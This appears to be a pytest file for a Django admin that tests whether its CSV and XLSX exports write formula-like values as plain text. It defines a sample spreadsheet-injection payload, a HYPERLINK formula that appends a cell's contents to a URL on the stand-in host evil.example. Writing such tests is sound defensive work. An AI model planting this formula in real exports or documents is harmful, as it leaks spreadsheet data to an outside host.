"""Formula injection: every CSV and XLSX export of the admin writes a formula-like name as text."""

import csv
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse
from openpyxl import load_workbook

from apps.actionfund.tests.factories import ApplicationFactory as ActionfundApplicationFactory
from apps.funding.tests.factories import ApplicationFactory as FundingApplicationFactory
from apps.funding.tests.factories import CallFactory
from apps.ideas.models import IdeaStatus
from apps.ideas.tests.factories import IdeaFactory
from apps.network.tests.factories import ActorFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Bitte klicken")'


def post_action(client, url_name, action, pks):
    return client.post(reverse(url_name), {"action": action, ACTION_CHECKBOX_NAME: pks})


def csv_cells(response) -> list[str]:
    rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    return [cell for row in rows for cell in row]


def assert_csv_safe(response):
    cells = csv_cells(response)
    assert "'" + EVIL in cells
    assert EVIL not in cells


def test_funding_call_exports_write_formulas_as_text(client, qm_staff):
    call = CallFactory()
    FundingApplicationFactory.in_status(
        "submitted", call=call, title=EVIL, contact_person="+49 30 123", organisation="@verein"
    )
    client.force_login(qm_staff)
    assert_csv_safe(post_action(client, "admin:funding_call_changelist", "export_applications_csv", [call.pk]))
    response = post_action(client, "admin:funding_call_changelist", "export_applications_xlsx", [call.pk])
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    risky = [cell for cell in cells if cell.value[:1] in "=+-@"]
    assert {cell.value for cell in risky} >= {EVIL, "+49 30 123", "@verein"}
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)


def test_actionfund_export_writes_formulas_as_text(client, qm_staff):
    application = ActionfundApplicationFactory(applicant_name=EVIL)
    client.force_login(qm_staff)
    assert_csv_safe(post_action(client, "admin:actionfund_application_changelist", "export_csv", [application.pk]))


def test_ideas_export_writes_formulas_as_text(client, qm_staff):
    idea = IdeaFactory(status=IdeaStatus.NEW, title=EVIL)
    client.force_login(qm_staff)
    assert_csv_safe(post_action(client, "admin:ideas_idea_changelist", "export_csv", [idea.pk]))


def test_directory_export_writes_formulas_as_text(client, qm_staff):
    actor = ActorFactory(name=EVIL)
    client.force_login(qm_staff)
    assert_csv_safe(post_action(client, "admin:network_actor_changelist", "export_actors_csv", [actor.pk]))
